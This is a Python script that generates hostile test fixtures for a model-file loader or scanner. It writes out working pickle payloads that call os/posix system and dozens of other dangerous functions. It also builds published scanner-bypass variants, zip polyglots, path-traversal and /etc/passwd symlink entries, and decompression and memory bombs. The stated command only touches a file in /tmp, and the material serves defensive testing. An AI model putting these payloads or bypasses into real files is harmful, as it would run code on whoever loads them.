"""Makes fixtures/weight-files/hostile: tiny files that would harm whoever loads them without care.

Run in the repository's root; needs nothing but NumPy:

    python Tools/make-fixtures/hostile_files.py

Each rebuilds the behaviour behind a published bypass of picklescan, fickling or modelscan, or of a loader. The commands in them would
make the file /tmp/chexnet-was-here. Never unpickle these files. What the tests expect of each is in HostileFileTests.
"""

import struct

from fixture_files import put
from torch_bytes import (
    MAGIC, archive, deflated, global_, pickled_dictionary, pickled_storage, pickled_tensor, record, stream, text, zip_bytes,
)

COMMAND = "touch /tmp/chexnet-was-here"

# Functions that run commands or code, open files, or reach the network: by a plain call in an archive.
FUNCTIONS = """
os system · posix system · nt system · subprocess Popen · _posixsubprocess fork_exec · builtins eval · builtins exec ·
builtins compile · builtins getattr · builtins __import__ · builtins open · __builtin__ execfile · runpy run_path ·
importlib import_module · pty spawn · socket create_connection · ctypes CDLL · shutil rmtree · webbrowser open ·
operator methodcaller · operator attrgetter · torch load · torch.storage _load_from_bytes · torch.hub load ·
torch.fx.graph_module reduce_graph_module · torch._dynamo.guards GuardBuilder.get · numpy load ·
numpy.testing._private.utils runstring · numpy.f2py.crackfortran myeval · pickle loads · joblib load · pip main · timeit timeit ·
cProfile run · pdb run · code InteractiveInterpreter.runcode · idlelib.run Executive.runcode · asyncio create_subprocess_shell ·
multiprocessing.util spawnv_passfds · logging.config listen · pydoc pipepager · linecache getline · urllib.request urlopen
"""


def call(name, argument=text(COMMAND)):
    return global_(name) + b"(" + argument + b"tR"


def short(value):
    return b"\x8c" + bytes([len(value)]) + value.encode()


SYSTEM = global_("posix system") + text(COMMAND) + b"\x85R"
STACK_SYSTEM = short("posix") + short("system") + b"\x93" + short(COMMAND) + b"\x85R"


def make_functions():
    for name in FUNCTIONS.replace("\n", " ").split("·"):
        name = name.strip()
        pickle = b"\x80\x02}(" + text("w") + pickled_tensor() + text("x") + call(name) + b"u."
        put(f"hostile/call-{name.replace(' ', '.')}.pt", zip_bytes(archive(pickle=pickle)))


def make_places():
    """One function, in every place that a pickle has."""
    tensor = pickled_tensor()
    ordered = global_("collections OrderedDict")
    with_hooks = tensor[:-len(ordered + b")RtR")]
    memoized = short("posix") + b"\x94" + short("system") + b"\x94" + b"00h\0h\x01\x93" + short(COMMAND) + b"\x85R"
    module = global_("torch.nn.modules.linear Linear") + b")\x81"
    places = {
        "alone": b"\x80\x02" + SYSTEM + b".",
        "alone-protocol-4": b"\x80\x04\x95\x30\0\0\0\0\0\0\0" + STACK_SYSTEM + b".",
        "without-protocol": SYSTEM + b".",
        "text-operations": b"cposix\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.",
        "unicode-operation": b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR.",
        "dropped": b"\x80\x02" + SYSTEM + b"0" + pickled_dictionary(tensor)[2:],
        "dropped-to-mark": b"\x80\x02(" + SYSTEM + b"1" + pickled_dictionary(tensor)[2:],
        "behind-the-end": pickled_dictionary(tensor) + b"\x80\x02" + SYSTEM + b".",
        "named-from-memo": b"\x80\x04" + memoized + b".",
        "dotted-name": b"\x80\x04" + short("torch.serialization") + short("os.system") + b"\x93" + short(COMMAND) + b"\x85R.",
        "dotted-name-protocol-2": b"\x80\x02" + call("torch.nn modules.module.os.system") + b".",
        "through-getattr": b"\x80\x02" + call("builtins getattr", global_("builtins dict") + text("get")) + b".",
        "through-partial": b"\x80\x02" + call("functools partial", global_("builtins eval") + text("1/0")) + b")R.",
        "through-map": b"\x80\x02" + call("builtins map", global_("posix system") + b"]" + text(COMMAND) + b"a") + b".",
        "through-reduce": b"\x80\x02" + call("functools reduce", global_("builtins getattr") + b"]") + b".",
        "through-starmap": b"\x80\x02" + call("itertools starmap", global_("os system") + b"]") + b".",
        "through-subclasses": b"\x80\x02" + call("builtins object.__subclasses__", b"") + b".",
        "through-globals": b"\x80\x02" + global_("torch.serialization load.__globals__") + b".",
        "reduce-ex": b"\x80\x02" + global_("builtins object.__reduce_ex__") + b"K\x02\x85R.",
        "in-arguments": b"\x80\x02" + ordered + b"(](" + text("w") + SYSTEM + b"\x86etR.",
        "in-dictionary-key": b"\x80\x02}(" + SYSTEM + tensor + b"u.",
        "in-list": b"\x80\x02](" + SYSTEM + tensor + b"e.",
        "in-set": b"\x80\x04\x8f(" + SYSTEM + b"\x90.",
        "in-frozenset": b"\x80\x04(" + SYSTEM + b"\x91.",
        "in-state": b"\x80\x02" + ordered + b")R}" + text("_metadata") + SYSTEM + b"sb.",
        "in-setstate": b"\x80\x02" + module + b"}" + text("__setstate__") + global_("os system") + b"sb" + text(COMMAND) + b"b.",
        "in-module": b"\x80\x02" + module + b"}(" + b"".join(
            text(name) + b"}" for name in ("_parameters", "_buffers", "_modules")) + text("forward") + SYSTEM + b"ub.",
        "in-tensor-hooks": b"\x80\x02}" + text("w") + with_hooks + SYSTEM + b"tRs.",
        "in-tensor-size": b"\x80\x02" + global_("torch._utils _rebuild_tensor_v2") + b"(" + pickled_storage() + b"K\0" + SYSTEM
        + b"(K\x01t\x89NtR.",
        "in-storage-id": b"\x80\x02(" + text("storage") + SYSTEM + text("0") + text("cpu") + b"K\x04tQ.",
        "in-module-id": b"\x80\x02(" + text("module") + global_("os system") + text("net.py") + text("class Net: pass") + b"tQ"
        + text(COMMAND) + b"\x85R.",
        "as-id": b"\x80\x02" + SYSTEM + b"Q.",
        "as-factory": b"\x80\x02" + global_("collections defaultdict") + global_("os system") + b"\x85R.",
        "as-type": b"\x80\x02" + global_("torch._tensor _rebuild_from_type_v2") + b"(" + global_("os system")
        + global_("torch Tensor") + text(COMMAND) + b"\x85}tR.",
        "as-base": b"\x80\x02" + global_("copy_reg _reconstructor") + global_("os system") + global_("__builtin__ object")
        + b"N\x87R.",
        "as-instance": b"\x80\x02(iposix\nsystem\n.",
        "as-object": b"\x80\x02(" + global_("posix system") + text(COMMAND) + b"o.",
        "as-new-object": b"\x80\x02" + global_("subprocess Popen") + text(COMMAND) + b"\x85\x81.",
        "as-new-object-by-name": b"\x80\x04" + global_("subprocess Popen") + b")}" + text("args") + text(COMMAND) + b"s\x92.",
        "as-extension": b"\x80\x02\x82\x01.",
        "as-persistent-text": b"\x80\x02Pposix system\n.",
    }
    for name, pickle in places.items():
        put(f"hostile/place-{name}.pt", zip_bytes(archive(pickle=pickle)))
    streams = {
        "object": stream(pickle=b"\x80\x02" + SYSTEM + b".", keys=b"\x80\x02].", storages=b""),
        "object-protocol-4": stream(
            pickle=b"\x80\x04" + STACK_SYSTEM + b".", keys=b"\x80\x04].", storages=b"", magic=b"\x80\x04\x95\x0d" + b"\0" * 7 + MAGIC),
        "object-beside-tensor": stream(
            pickle=b"\x80\x02}(" + text("w") + pickled_tensor(more=b"N") + text("x") + SYSTEM + b"u."),
        "magic": stream(magic=b"\x80\x02" + SYSTEM + b"0" + MAGIC),
        "magic-behind": stream(magic=b"\x80\x02" + MAGIC[:-1] + SYSTEM + b"0."),
        "protocol": stream(protocol=b"\x80\x02" + SYSTEM + b"0M\xe9\x03."),
        "system": stream(system=b"\x80\x02}" + text("little_endian") + SYSTEM + b"s."),
        "keys": stream(keys=b"\x80\x02" + SYSTEM + b"0]" + text("0") + b"a."),
        "key": stream(keys=b"\x80\x02]" + SYSTEM + b"a."),
        "view": stream(pickle=pickled_dictionary(pickled_tensor(more=SYSTEM))),
        "source": stream(pickle=b"\x80\x02(" + text("module") + global_("builtins exec") + text("net.py") + text("import os")
                         + b"tQ" + text("1/0") + b"\x85R.", keys=b"\x80\x02].", storages=b""),
    }
    for name, data in streams.items():
        put(f"hostile/stream-{name}.pth", data)
    put("hostile/plain-pickle.pkl", b"\x80\x04" + STACK_SYSTEM + b".")
    put("hostile/plain-pickle-0.pkl", b"cposix\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.")


def make_polyglots():
    inner = zip_bytes(archive(pickle=b"\x80\x02" + SYSTEM + b"."))
    evil = b"\x80\x02" + SYSTEM + b"."
    tar = b"a".ljust(257, b"\0") + b"ustar\x0000".ljust(255, b"\0")
    files = {
        "pickle-and-zip.pt": zip_bytes(archive(), front=evil),
        "stream-and-zip.pt": stream(pickle=evil) + inner,
        "tar-and-zip.pt": zip_bytes(archive(), front=tar),
        "png-and-zip.pt": zip_bytes(archive(), front=b"\x89PNG\r\n\x1a\n"),
        "zip-and-zip.pt": zip_bytes(archive(), front=inner),
        "zip-and-pickle.pt": zip_bytes(archive()) + evil,
        "second-pickle.pt": zip_bytes(archive(extra=[record("a/hidden/data.pkl", evil)])),
        "second-root.pt": zip_bytes([record("b/data.pkl", evil), *archive()]),
        "same-name.pt": zip_bytes(archive(extra=[record("a/data.pkl", evil)])),
        "other-name-inside.pt": zip_bytes([record("a/data.pkl", evil, local_name=b"a/data.txt"), *archive()[1:]]),
        "encrypted-flag.pt": zip_bytes([record("a/data.pkl", evil, flags=0x0801), *archive()[1:]]),
        "strong-encryption-flag.pt": zip_bytes([record("a/data.pkl", evil, flags=0x0840), *archive()[1:]]),
        "patch-flag.pt": zip_bytes([record("a/data.pkl", evil, flags=0x0820), *archive()[1:]]),
        "wrong-checksum.pt": zip_bytes([record("a/data.pkl", evil, crc=1), *archive()[1:]]),
        "deflated.pt": zip_bytes([deflated("a/data.pkl", evil), *archive()[1:]]),
        "traversal.pt": zip_bytes(archive(extra=[record("a/data/../../../etc/cron.d/x", b"")])),
        "symlink.pt": zip_bytes(archive(extra=[record("a/data/1", b"/etc/passwd", attributes=0xA1FF0000)])),
    }
    for name, data in files.items():
        put(f"hostile/zip-{name}", data)


def make_bombs():
    tensor = pickled_tensor()
    ordered = global_("collections OrderedDict")
    laughs = b"]" + b"q\0" + b"".join(b"](" + b"h\0" * 10 + b"eq\0" for _ in range(12))
    attributes = b"}(" + text("_modules") + b"}" + text("_parameters") + b"}" + b"K\x01N" * 30_000 + b"u"
    pickles = {
        "laughs": b"\x80\x02" + laughs + b".",
        "laughs-in-tuples": b"\x80\x02)q\0" + b"h\0h\0h\0\x87q\0" * 20 + b".",
        "depth": b"\x80\x02" + tensor + b"\x85" * 1000 + b".",
        "depth-of-lists": b"\x80\x02" + b"]" * 1000 + b"a" * 999 + b".",
        "itself": b"\x80\x02]q\0h\0ah\0a" + b"}q\x01" + text("w") + b"h\x01sa.",
        "duplicates": b"\x80\x02" + b"(" + b"N" + b"2" * 250_000 + b"t.",
        "marks": b"\x80\x02" + b"(" * 250_000 + b".",
        "memo": b"\x80\x04N" + b"\x94" * 350_000 + b".",
        "operations": b"\x80\x04" + b"N0" * 2_100_000 + b".",
        "containers": b"\x80\x02" + b"}0" * 350_000 + b".",
        "ordered-copies": b"\x80\x02" + ordered + b"q\0]q\x01(" + b"NN\x86" * 20_000 + b"e\x85q\x02" + b"h\0h\x02R0" * 20_000 + b".",
        "long-names": b"\x80\x02" + tensor + b"q\0](" + b"h\0" * 50_000 + b"eq\x01}" + text("n" * (1 << 20)) + b"h\x01s.",
        "attributes": b"\x80\x02" + global_("torch.nn.modules.linear Linear") + b")\x81" + attributes + b"bq\0](" + b"h\0" * 150_000
        + b"e.",
        "globals": b"\x80\x02" + b"".join(b"ca\n%x\n0" % place for place in range(1_100)) + b"N.",
    }
    declared = {
        "text": b"\x80\x02X\xff\xff\xff\xff.", "text-8": b"\x80\x04\x8d" + b"\xff" * 7 + b"\x7f.",
        "text-8-negative": b"\x80\x04\x8d" + b"\xff" * 8 + b".", "bytes-8": b"\x80\x04\x8e\0\0\0\0\0\1\0\0.",
        "bytes": b"\x80\x04B\xff\xff\xff\x7f.", "string-negative": b"\x80\x02T\xff\xff\xff\xff.",
        "integer": b"\x80\x02\x8b\xff\xff\xff\x7f.", "integer-negative": b"\x80\x02\x8b\0\0\0\x80.",
        "frame": b"\x80\x04\x95" + b"\xff" * 8 + b"X\xff\xff\xff\xff.", "memo": b"\x80\x02Nr\xff\xff\xff\xffj\xfe\xff\xff\xff.",
        "storage": pickled_dictionary(pickled_tensor(count=1 << 61)),
        "storage-of-bytes": pickled_dictionary(pickled_tensor(count=(1 << 63) - 1, storage="torch ByteStorage")),
        "size": pickled_dictionary(pickled_tensor(size=(1 << 31, 1 << 31), stride=(0, 0))),
        "line": b"\x80\x02c" + b"a" * 5000 + b"\nb\n.", "digits": b"\x80\x02I" + b"9" * 4000 + b"\n.",
    }
    for name, pickle in pickles.items():
        put(f"hostile/bomb-{name}.pt", zip_bytes([deflated("a/data.pkl", pickle), *archive()[1:]]))
    for name, pickle in declared.items():
        put(f"hostile/huge-{name}.pt", zip_bytes(archive(pickle=pickle)))
    put("hostile/huge-stream-storage.pth", stream(
        pickle=pickled_dictionary(pickled_tensor(count=1 << 60, more=b"N")), storages=struct.pack("<q", 1 << 60)))
    put("hostile/huge-stream-count.pth", stream(storages=struct.pack("<q", (1 << 63) - 1)))
    put("hostile/zip-bomb.pt", zip_bytes(archive(method=8, packed=b"\x03\0", packed_size=2, size=1 << 31, local_size=1 << 31)))


def make_safetensors():
    def file(header, data=b"", length=None):
        header = header if isinstance(header, bytes) else header.encode()
        return struct.pack("<Q", len(header) if length is None else length) + header + data

    def entry(shape="[1]", offsets="[0,4]", kind='"F32"'):
        return '{"dtype":%s,"shape":%s,"data_offsets":%s}' % (kind, shape, offsets)

    files = {
        "length": file("{}", length=(1 << 64) - 1), "length-limit": file("{}", length=100_000_001),
        "length-of-file": file("{}", length=1 << 20), "deep": file('{"a":' + "[" * 2_000 + "]" * 2_000 + "}"),
        "deep-objects": file('{"a":' * 500 + "1" + "}" * 500), "shape": file('{"a":%s}' % entry("[4294967296,4294967296]")),
        "shape-zero": file('{"a":%s}' % entry("[9223372036854775807,2,0]", "[0,4]"), b"\0" * 4),
        "shape-long": file('{"a":%s}' % entry("[" + "1," * 2_000 + "1]", "[0,4]"), b"\0" * 3),
        "offsets": file('{"a":%s}' % entry("[1]", "[9223372036854775803,9223372036854775807]"), b"\0" * 4),
        "offsets-negative": file('{"a":%s}' % entry("[1]", "[-4,0]"), b"\0" * 4),
        "number": file('{"a":%s}' % entry("[1e400]"), b"\0" * 4), "fraction": file('{"a":%s}' % entry("[1.5]"), b"\0" * 4),
        "overlapping": file("{%s}" % ",".join('"%d":%s' % (place, entry("[4]", "[0,16]")) for place in range(100)), b"\0" * 16),
        "same-key": file('{"a":%s,"a":%s}' % (entry(), entry()), b"\0" * 4),
        "escaped-key": file('{"a":%s,"\\u0061":%s}' % (entry(), entry()), b"\0" * 4),
        "metadata": file('{"__metadata__":{"a":{"b":"c"}},"a":%s}' % entry(), b"\0" * 4),
        "not-utf-8": file(b'{"\xff":1}'), "surrogate": file('{"\\ud800":%s}' % entry(), b"\0" * 4),
        "code-behind": file('{"a":%s}' % entry(), b"\0" * 4 + b"\x80\x02" + SYSTEM + b"."),
        "zip-behind": file('{"a":%s}' % entry(), b"\0" * 4 + zip_bytes(archive())),
    }
    for name, data in files.items():
        put(f"hostile/safetensors-{name}.safetensors", data)


if __name__ == "__main__":
    make_functions()
    make_places()
    make_polyglots()
    make_bombs()
    make_safetensors()
    print("checksums.py --update puts what changed into fixtures/README.md")
